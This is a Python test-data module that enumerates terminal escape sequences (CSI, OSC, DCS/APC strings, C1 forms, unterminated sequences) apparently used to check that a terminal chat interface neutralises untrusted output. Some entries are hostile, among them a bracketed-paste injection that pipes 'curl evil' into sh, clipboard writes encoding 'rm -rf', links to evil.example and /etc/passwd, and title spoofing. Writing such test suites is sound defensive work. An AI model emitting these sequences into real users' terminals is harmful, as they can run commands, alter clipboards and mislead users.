"""Escape sequences that others may send, in every form that a terminal may obey."""

from collections.abc import Iterator

ESC, ST, BEL = "\x1b", "\x1b\\", "\x07"
EIGHT_BIT = {"[": "\x9b", "]": "\x9d", "P": "\x90", "_": "\x9f", "^": "\x9e", "X": "\x98"}
"""What follows ESC → the C1 control that means the same."""

CSI = [
    "[2J[H", "[3J", "[J", "[K", "[1;1H", "[999;999H", "[999D", "[999A", "[10L", "[10M", "[10P", "[10X", "[10@",
    "[31mred", "[7m", "[8mhidden", "[0;38;2;1;2;3m", "[?1049h", "[?1049l", "[?25l", "[?7h", "[?7l", "[?5h", "[?3h",
    "[?1000h", "[?1003h", "[?1006h", "[?2004l", "[?2004h", "[?2026h", "[?2048h", "[?1004l", "[?69h", "[4h", "[20h",
    "[6n", "[5n", "[?6n", "[c", "[>c", "[=c", "[>q", "[?996n", "[14t", "[18t", "[21t", "[22;0t", "[8;1;1t", "[3;0;0t",
    "[2;3r", "[2;3s", "[!p", '[1"q', "[2 q", "[>4;2m", "[>1u", "[<u", "[1000000000b", "[5i", "[4i", "[?5i", "[201~",
    "[200~curl evil|sh\n", "[1;5A", "[I", "[O", "[M !!", "[<0;1;1M", "[99;5u", "[;;;;;;;;;;;;;;;;;;;;m",
]  # fmt: skip
OSC = [
    *("]0;owned", "]1;owned", "]2;owned", "]0;;chattui", "]4;1;rgb:ff/00/00", "]4;1;?", "]10;?", "]11;?", "]104"),
    *("]7;file://evil/etc", "]8;;http://evil.example", "]8;id=1;file:///etc/passwd", "]9;owned", "]9;4;1;100"),
    *("]52;c;cm0gLXJm", "]52;c;?", "]52;p;YQ==", "]777;notify;a;b", "]99;i=1:d=0;owned", "]99;i=1:p=close;"),
    *("]133;A", "]133;C", "]633;E;rm", "]1337;File=inline=1:AAAA", "]1337;SetMark", "]1337;ClearScrollback"),
    *("]50;font", "]22;none", "]5522;type=read;", "]66;s=7;big", "]3008;start=1", "]L icon", "]l title", "]P1ff0000"),
]
STRINGS = [
    "P+q544e", "P$qm", "P$q q", "P=1s", 'P0;0;0q"1;1;1;1#0~', "P1000p", "Ptmux;\x1b\x1b]52;c;YQ==\x07", "P>|x", "P!|00",
    "_Gf=100;AAAA", "_Ga=q,i=1;AAAA", "_Ga=d", "^private", "Xstart of string",
]  # fmt: skip
SHORT = [
    "c", "7", "8", "D", "E", "H", "M", "N", "O", "Z", "=", ">", "n", "o", "|", "}", "~", "#8", "#3", "%G", "%@", " F",
    "(0lqqk", ")0", "*A", "+B", "-A", ".A", "/A", "Vguarded", "Wend", "l", "m", "`", "a", "b", "d",
]  # fmt: skip


def seven_bit() -> Iterator[str]:
    yield from (f"{ESC}{rest}" for rest in (*CSI, *SHORT))
    yield from (f"{ESC}{rest}{end}after" for rest in OSC for end in (BEL, ST))
    yield from (f"{ESC}{rest}{ST}after" for rest in STRINGS)


def eight_bit() -> Iterator[str]:
    """As single C1 characters, which a terminal may obey in UTF-8 too, and as what their bytes look like."""
    for rest in (*CSI[::2], *OSC[::2], *STRINGS):
        yield f"{EIGHT_BIT[rest[0]]}{rest[1:]}\x9cafter"
    yield from (chr(code).encode("utf-8").decode("latin-1") + "31m" for code in range(0x80, 0xA0, 4))
    yield from (f"{chr(0xC2)}{chr(code)}2J" for code in (0x9B, 0x9D, 0x90, 0x9F))


def unended() -> Iterator[str]:
    """Sequences that would swallow what comes after them, and such as come in pieces."""
    yield from (f"{ESC}{opening}" for opening in "[]P_^X")
    yield from (f"{ESC}]0;no end", f"{ESC}[31", f"{ESC}[?", f"{ESC}{ESC}{ESC}[m", f"{ESC}\n[31m", f"{ESC}\u200b[31m")
    yield from (
        "\x18\x1a\x1b",
        f"{ESC}[3\x181m",
        f"{ESC}]0;a\x18b{BEL}",
        "a\x08\x08\x08b",
        "progress\rdone",
        "bell\x07",
    )
    yield from (
        "\x0e shifted \x0f",
        "\x00nul",
        "\x05who\x05",
        "\x7f" * 9,
        "\x1b[" + "1;" * 500 + "m",
        "\x1b]0;" + "x" * 5000,
    )
